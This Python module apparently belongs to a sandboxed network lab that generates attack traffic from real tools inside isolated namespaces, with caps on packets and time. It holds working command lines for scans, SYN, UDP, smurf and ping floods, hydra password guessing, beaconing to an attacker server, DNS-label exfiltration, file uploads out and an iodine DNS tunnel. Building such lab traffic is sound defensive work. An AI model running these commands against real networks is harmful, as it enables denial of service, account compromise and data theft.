"""The attacks: real tools, bounded in packets and time, started from inside a namespace.

Each function carries out one attack of a day. Addresses come from the plan; nothing here can name one
outside it, because the namespaces have no route to anywhere else.
"""

from __future__ import annotations

import base64
import contextlib
import ipaddress
import socket
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

from lab.actions import Args, Bench, ask, run
from lab.servers import tunnel_end

MAX_PACKETS = 5000
LIMIT_S = 240.0


def _bounded(value: int) -> int:
    if not 0 < value <= MAX_PACKETS:
        raise ValueError(f"an attack may send 1 to {MAX_PACKETS} packets, got {value}")
    return value


def _words(bench: Bench, count: int) -> Path:
    path = bench.folder / "scratch" / "words"
    path.write_text("".join(f"guess{n:04d}\n" for n in range(_bounded(count))))
    return path


def nmap(bench: Bench, args: Args) -> None:
    """Scan with nmap: ``options`` as on its command line, ``targets`` hosts or prefixes."""
    net = bench.world.network
    targets = [net.address(target) for target in args["targets"]]
    run(["nmap", "-n", "--host-timeout", "120s", *args["options"], *targets], limit_s=LIMIT_S)
    time.sleep(0.5)


def smurf(bench: Bench, args: Args) -> None:
    """Send echo requests to the broadcast address in the victim's name; everybody answers it."""
    net = bench.world.network
    victim = net.hosts[args["victim"]]
    count = str(_bounded(args["packets"]))
    pace = f"u{args['interval_us']}"
    argv = ["hping3", "-q", "-1", "-a", victim.ip, "-c", count, "-i", pace, victim.broadcast]
    run(argv, limit_s=LIMIT_S)


def ping_each(bench: Bench, args: Args) -> None:
    """Ping the addresses of a subnet one after the other, as a loop in a shell would."""
    prefix = ipaddress.IPv4Network(bench.world.network.address(args["to"]))
    addresses = [str(prefix[n]) for n in range(args["first"], args["last"] + 1)]
    if args.get("shuffled", False):
        bench.rng.shuffle(addresses)
    low, high = args["gap_s"]
    for address in addresses[: _bounded(args["count"])]:
        run(["ping", "-n", "-q", "-c", "1", "-W", "0.05", address])
        bench.clock.rest(bench.rng.uniform(low, high))
    time.sleep(1)  # the router gives up looking for the last absent host


def rising_ports(bench: Bench, args: Args) -> None:
    """Send one SYN to each of many rising ports of a host."""
    to = bench.world.network.address(args["to"])
    count, pace = str(_bounded(args["count"])), f"u{args['interval_us']}"
    argv = ["hping3", "-q", "-S", "-p", f"++{args['first']}", "-c", count, "-i", pace, to]
    run(argv, limit_s=LIMIT_S)


def syn_flood(bench: Bench, args: Args) -> None:
    """Flood a TCP port with SYN packets from rising source ports."""
    to = bench.world.network.address(args["to"])
    count, pace = str(_bounded(args["packets"])), f"u{args['interval_us']}"
    run(
        ["hping3", "-q", "-S", "-p", str(args["port"]), "-c", count, "-i", pace, to],
        limit_s=LIMIT_S,
    )


def udp_flood(bench: Bench, args: Args) -> None:
    """Flood a UDP port with datagrams; ``keep`` holds the source port."""
    to = bench.world.network.address(args["to"])
    count, pace = str(_bounded(args["packets"])), f"u{args['interval_us']}"
    keep = ["-k"] if args.get("keep") else []
    size = ["-d", str(args.get("nbytes", 400))]
    argv = [
        "hping3",
        "-q",
        "--udp",
        *keep,
        *size,
        "-p",
        str(args["port"]),
        "-c",
        count,
        "-i",
        pace,
    ]
    run([*argv, to], limit_s=LIMIT_S)


def ping_flood(bench: Bench, args: Args) -> None:
    """Flood a host with echo requests."""
    to = bench.world.network.address(args["to"])
    count = str(_bounded(args["packets"]))
    run(["ping", "-n", "-q", "-f", "-s", str(args["nbytes"]), "-c", count, to], limit_s=LIMIT_S)


def _hydra(bench: Bench, args: Args, service: list[str]) -> None:
    words = str(_words(bench, args["passwords"]))
    name = args.get("login", "admin")
    argv = ["hydra", "-I", "-l", name, "-P", words, "-t", str(args["tasks"]), "-w", "5", *service]
    # hydra leaves its restore file where it runs
    subprocess.run(
        argv, cwd=bench.folder / "scratch", timeout=LIMIT_S, capture_output=True, check=False
    )


def hydra_ssh(bench: Bench, args: Args) -> None:
    """Guess an ssh password."""
    _hydra(bench, args, [f"ssh://{bench.world.network.address(args['to'])}"])


def hydra_web(bench: Bench, args: Args) -> None:
    """Guess a web password (basic authentication)."""
    _hydra(bench, args, [bench.world.network.address(args["to"]), "http-get", "/admin"])


def hydra_ftp(bench: Bench, args: Args) -> None:
    """Guess an FTP password."""
    _hydra(bench, args, [f"ftp://{bench.world.network.address(args['to'])}"])


def beacon(bench: Bench, args: Args) -> None:
    """Ask the attacker's web server for orders at a regular interval with jitter."""
    to = bench.world.network.address(args["to"])
    scheme = "https" if args.get("tls") else "http"
    for index in range(_bounded(args["count"])):
        path = f"o/{bench.rng.randrange(12)}" if index % 25 == 24 else "beat"
        url = f"{scheme}://{to}/{path}"
        run(["curl", "-q", "-k", "-s", "-o", "/dev/null", "--max-time", "5", url])
        spread = args["jitter"]
        bench.clock.rest(args["every_s"] * (1 + bench.rng.uniform(-spread, spread)))


def labels(bench: Bench, args: Args) -> None:
    """Carry data out in the labels of TXT questions to the firm's own resolver."""
    net = bench.world.network
    resolver = net.hosts[net.tunnel["resolver"]].ip
    low, high = args["gap_s"]
    for index in range(_bounded(args["queries"])):
        chunk = bench.rng.randbytes(bench.rng.randint(args["chunk"] // 2, args["chunk"]))
        text = base64.b32encode(chunk).decode().rstrip("=").lower()
        name = ".".join([text[i : i + 60] for i in range(0, len(text), 60)])
        ask(resolver, f"{name}.{index:x}.{net.tunnel['domain']}", 16, bench.rng)
        bench.clock.rest(low + (high - low) * bench.rng.random() ** 3)


def upload(bench: Bench, args: Args) -> None:
    """Send a large file, in parts, to a server outside."""
    to = bench.world.network.address(args["to"])
    source = bench.folder / "scratch" / "loot"
    scheme = "https" if args.get("tls", True) else "http"
    for part in range(args["parts"]):
        size = int(args["mbytes"] * 1e6 * bench.rng.uniform(0.7, 1.3))
        source.write_bytes(b"names and numbers; " * (size // 19))
        url = f"{scheme}://{to}/up/part{part}"
        run(["curl", "-q", "-k", "-s", "--http1.1", "-T", str(source), url])
        bench.clock.rest(bench.rng.uniform(*args["gap_s"]))


def slow_ports(bench: Bench, args: Args) -> None:
    """Try ports one by one, minutes long, without a scanner's speed or flags."""
    to = bench.world.network.address(args["to"])
    ports = list(range(args["first"], args["last"] + 1))
    bench.rng.shuffle(ports)
    low, high = args["gap_s"]
    for port in ports[: _bounded(args["count"])]:
        with contextlib.suppress(OSError), socket.create_connection((to, port), 2):
            pass
        bench.clock.rest(bench.rng.uniform(low, high))


def iodine(bench: Bench, args: Args) -> None:
    """Open an IP-over-DNS tunnel with iodine and carry pings and a transfer through it."""
    net = bench.world.network
    far = net.tunnel["server"]
    bench.world.end(tunnel_end(net.hosts[far]))
    common = ["-f", "-P", "saltwater"]
    with bench.world.inside(far):
        server = subprocess.Popen(
            ["iodined", *common, "-c", "-d", "dns9", "10.99.0.1/29", net.tunnel["domain"]],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    with bench.world.inside(bench.host.name):
        resolver = net.hosts[net.tunnel["resolver"]].ip
        client = subprocess.Popen(
            ["iodine", *common, "-r", "-d", "dns8", "-I", "3", resolver, net.tunnel["domain"]],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            time.sleep(args.get("handshake_s", 8))
            for _ in range(args["rounds"]):
                run(["ping", "-n", "-c", "4", "-i", "0.3", "-s", "300", "-w", "6", "10.99.0.1"])
                url = f"http://10.99.0.1/o/{bench.rng.randrange(8)}"
                run(["curl", "-q", "-s", "-o", "/dev/null", "--max-time", "8", url])
                time.sleep(1)
        finally:
            for child in (client, server):
                child.terminate()
                child.wait(timeout=5)


KINDS: dict[str, Callable[[Bench, Args], None]] = {
    "nmap": nmap,
    "ping_each": ping_each,
    "rising_ports": rising_ports,
    "smurf": smurf,
    "syn_flood": syn_flood,
    "udp_flood": udp_flood,
    "ping_flood": ping_flood,
    "hydra_ssh": hydra_ssh,
    "hydra_web": hydra_web,
    "hydra_ftp": hydra_ftp,
    "beacon": beacon,
    "labels": labels,
    "upload": upload,
    "slow_ports": slow_ports,
    "iodine": iodine,
}
"""Every program that carries out an attack."""
